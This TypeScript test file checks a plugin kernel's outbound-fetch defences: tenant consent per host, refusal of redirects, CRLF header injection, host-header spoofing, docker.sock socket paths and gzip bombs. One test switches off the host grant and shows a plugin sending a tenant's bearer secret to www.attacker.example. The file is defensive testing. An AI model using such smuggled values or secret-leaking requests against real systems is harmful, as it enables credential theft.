// A plugin and the world outside: what it asked for and the tenant consented to.
import t from 'tap'
import { allStand } from '../../kernel/src/defences.ts'
import { createKernel } from '../../kernel/src/kernel.ts'
import { echo, fetchAs, hosts, ok, setKey, startBank, value } from '../support/bank-kernel.ts'
import { sender, testConfig, testLog } from '../support/kernel.ts'

t.test('consent', async (t) => {
  const { kernel, openBank, outside, pluginsRoot } = await startBank(t)
  const { owner } = await kernel.openTenant()
  const asks = {
    http: hosts,
    secrets: [{ name: 'bankKey', title: 'Key of the bank', host: hosts[0] }, { name: 'cdnKey' }],
  }

  await t.test('is asked for before a module is enabled, with what it asks for', async (t) => {
    const refused = { status: 409, body: { code: 'CONSENT_REQUIRED', module: 'bank', asks } }
    t.match(await owner('POST', '/v1/tenant/modules', { module: 'bank' }), refused)
    t.match(
      await owner('POST', '/v1/tenant/modules', { module: 'bank', consent: { http: hosts.slice(1) } }),
      refused,
    )
    const more = { http: [...hosts, 'www.attacker.example'] }
    t.match(await owner('POST', '/v1/tenant/modules', { module: 'bank', consent: more }), {
      status: 422,
      body: { errors: [{ field: 'consent.http.2', code: 'NOT_ASKED_FOR' }] },
    })
    t.same((await owner('GET', '/v1/tenant/modules')).body['items'], [])
    const catalogue = (await kernel.send('GET', '/v1/marketplace/modules')).body['items'] as { id: string }[]
    t.match(
      catalogue.find(({ id }) => id === 'bank'),
      { asks },
    )
  })

  await t.test('can be withdrawn and given again, and counts from the next request', async (t) => {
    const tenant = await openBank()
    const { owner } = tenant
    const consent = (http: string[], send = owner) => send('PUT', '/v1/tenant/modules/bank/consent', { http })
    t.match(await fetchAs(owner, ok), { status: 200, body: { status: 200, body: '{"fine":true}' } })
    t.match(await consent(['cdn.bank.example']), {
      status: 200,
      body: { consent: { missing: ['api.bank.example'] } },
    })
    t.match(await fetchAs(owner, ok), {
      body: { code: 'FETCH_REFUSED', message: /not consented to 'api.bank.example'/ },
    })
    const from = 'https://cdn.bank.example/redirect?to=https://api.bank.example/ok'
    t.match(
      await fetchAs(owner, from),
      { body: { code: 'FETCH_REFUSED' } },
      'nor is a redirect the way around',
    )
    t.match(await owner('GET', '/v1/tenant/modules'), {
      body: { items: [{ consent: { http: ['cdn.bank.example'], changedBy: String, changedAt: String } }] },
    })
    t.match(await consent(['www.attacker.example']), { status: 422, body: { errors: [{ field: 'http.0' }] } })
    t.match(await consent(hosts, await kernel.addMember(tenant, 'member')), { status: 403 })
    t.match(await consent(hosts, await kernel.addMember(tenant, 'admin')), { status: 200 })
    t.match(await fetchAs(owner, ok), { body: { status: 200 } })
    const { rows } = await kernel.database.admin.query(
      "select before, after from kernel.audit where tenant_id = $1 and entity = 'consent' order by id",
      [tenant.id],
    )
    t.same(rows, [
      { before: null, after: { http: hosts } },
      { before: { http: hosts }, after: { http: ['cdn.bank.example'] } },
      { before: { http: ['cdn.bank.example'] }, after: { http: hosts } },
    ])
  })

  await t.test('counts in every process on the database from the next request', async (t) => {
    const config = testConfig(kernel.database.adminUrl, { pluginsRoot })
    const second = await createKernel(config, testLog, allStand, outside.world)
    t.teardown(() => second.close())
    const person = { name: 'A Person', email: 'two@example.com', password: 'correct horse battery' }
    const { body } = await kernel.send('POST', '/v1/auth/sign-up/email', person)
    const headers = { authorization: `Bearer ${String(body['token'])}`, 'x-tenant-id': 'two-processes' }
    const [here, there] = [sender(kernel.kernel, headers), sender(second, headers)]
    await here('POST', '/v1/tenants', { name: 'Two', slug: 'two-processes', currency: 'EUR' })
    await here('POST', '/v1/tenant/modules', { module: 'bank', consent: { http: hosts } })
    t.match(await fetchAs(there, ok), { body: { status: 200 } })
    await here('PUT', '/v1/tenant/modules/bank/consent', { http: [] })
    t.match(await fetchAs(there, ok), { body: { code: 'FETCH_REFUSED' } })
  })

  await t.test('is no matter of a module that is not enabled or not there', async (t) => {
    t.match(await owner('PUT', '/v1/tenant/modules/bank/consent', { http: [] }), { status: 403 })
    t.match(await owner('PUT', '/v1/tenant/modules/nothing/consent', { http: [] }), { status: 404 })
    t.match(await owner('PUT', '/v1/tenant/modules/bank/consent', {}), { status: 422 })
  })

  await t.test('to some hosts is none to others', async (t) => {
    const { owner } = await openBank()
    for (const url of [
      'https://www.attacker.example/ok',
      'https://api.other.example/ok',
      'https://127.0.0.1/ok',
    ])
      t.match(await fetchAs(owner, url), { body: { code: 'FETCH_REFUSED' } }, url)
    t.match(await owner('POST', '/v1/bank/uncaught', { url: 'https://api.other.example/ok' }), {
      status: 502,
      body: { code: 'FETCH_REFUSED' },
    })
    t.same(outside.inner, [])
  })
})

t.test('a request', async (t) => {
  const { openBank, outside } = await startBank(t)
  const { owner } = await openBank()

  await t.test('takes a closed set of options', async (t) => {
    const wrong = [
      { method: 'CONNECT' },
      { method: 'POST', json: {}, body: '' },
      { json: {} },
      { dispatcher: {} },
      { socketPath: '/run/docker.sock' },
      { timeoutMs: 60_000 },
      { redirect: 'error' },
      { method: 'POST', base64: 'no base64!' },
      { headers: { host: 'www.attacker.example' } },
      { headers: { 'x-a': 'b\r\ncookie: c' } },
      { headers: ['x'] },
      { query: { a: {} } },
    ]
    for (const request of wrong)
      t.match(
        await fetchAs(owner, echo, request),
        { body: { code: /FETCH_REFUSED|CAPABILITY_DENIED/ } },
        JSON.stringify(request),
      )
    t.same(outside.outer, [])
  })

  await t.test('sends its body as it says, and gets the answer as it asks', async (t) => {
    const echoed = async (request: object) =>
      JSON.parse(String((await fetchAs(owner, echo, request)).body['body']))
    t.match(await echoed({ method: 'POST', json: { a: [1] } }), {
      body: '{"a":[1]}',
      headers: { 'content-type': 'application/json' },
    })
    t.match(await echoed({ method: 'POST', form: { a: 'b c', d: '&' } }), { body: 'a=b+c&d=%26' })
    t.match(await echoed({ method: 'PUT', body: 'a', headers: { 'Content-Type': 'text/csv' } }), {
      method: 'PUT',
      body: 'a',
      headers: { 'content-type': 'text/csv' },
    })
    t.match(await echoed({ query: { a: 'b&c', n: 1 } }), { method: 'GET', url: '/echo?a=b%26c&n=1' })
    t.match(JSON.parse(atob(String((await owner('POST', '/v1/bank/bytes')).body))), {
      body: '\0\u0001\u0002',
    })
  })

  await t.test('meets a remote side that fails, and the plugin may go on', async (t) => {
    t.match(await fetchAs(owner, 'https://api.bank.example/no-http'), { body: { code: 'FETCH_FAILED' } })
    t.match(await fetchAs(owner, 'https://api.bank.example/silent', { timeoutMs: 200 }), {
      body: { code: 'FETCH_TIMEOUT' },
    })
    t.match(await owner('POST', '/v1/bank/uncaught', { url: 'https://api.bank.example/cut' }), {
      status: 502,
      body: { code: 'FETCH_FAILED' },
    })
  })

  await t.test('that goes over a limit ends the invocation', async (t) => {
    t.match(await fetchAs(owner, 'https://api.bank.example/gzip-bomb'), {
      status: 502,
      body: { code: 'LIMIT_EXCEEDED', detail: /'fetched bytes'/ },
    })
    t.match(await owner('POST', '/v1/bank/many'), {
      status: 502,
      body: { code: 'LIMIT_EXCEEDED', detail: /'fetches': 11 of 10/ },
    })
  })

  await t.test('is made before anything is written, and in no hook', async (t) => {
    t.match(await owner('POST', '/v1/bank/after-write'), {
      status: 502,
      body: { code: 'FETCH_REFUSED', detail: /written already/ },
    })
    t.match(await owner('POST', '/v1/bank/notes', { text: 'fetch' }), {
      status: 502,
      body: { code: 'FETCH_REFUSED', detail: /hook/ },
    })
    t.match(await owner('GET', '/v1/bank/notes'), { body: { items: [] } }, 'nothing of it is kept')
    const note = await owner('POST', '/v1/bank/notes', { text: 'a' })
    t.match(await owner('POST', `/v1/bank/notes/${String(note.body['id'])}/send`), {
      status: 200,
      body: { text: '200', status: 'sent' },
    })
  })

  await t.test('holds a transaction for so long and no longer', async (t) => {
    const note = await owner('POST', '/v1/bank/notes', { text: 'a' })
    t.match(await owner('POST', `/v1/bank/notes/${String(note.body['id'])}/drip`), {
      status: 200,
      body: { text: 'FETCH_TIMEOUT FETCH_TIMEOUT FETCH_TIMEOUT FETCH_REFUSED FETCH_REFUSED' },
    })
  })
})

t.test(
  'with the grant of hosts off, a plugin reaches hosts that nobody gave it, with a secret of another',
  async (t) => {
    const { openBank, outside } = await startBank(t, new Set(['hostGrant'] as const))
    const { owner } = await openBank()
    await setKey(owner)
    t.match(await fetchAs(owner, 'https://www.attacker.example/ok'), { body: { status: 200 } })
    t.match(await owner('POST', '/v1/bank/secret', { url: 'https://www.attacker.example/echo' }), {
      body: { status: 200 },
    })
    t.match(outside.latest(), { host: 'www.attacker.example', authorization: `Bearer ${value}` })
  },
)

t.test('with the size of fetches off, a bomb goes off', async (t) => {
  const { openBank } = await startBank(t, new Set(['fetchSize'] as const))
  const { owner } = await openBank()
  t.match(await fetchAs(owner, 'https://api.bank.example/gzip-bomb'), {
    body: { detail: /'(answer|result|memory|calls)'/ },
  })
})
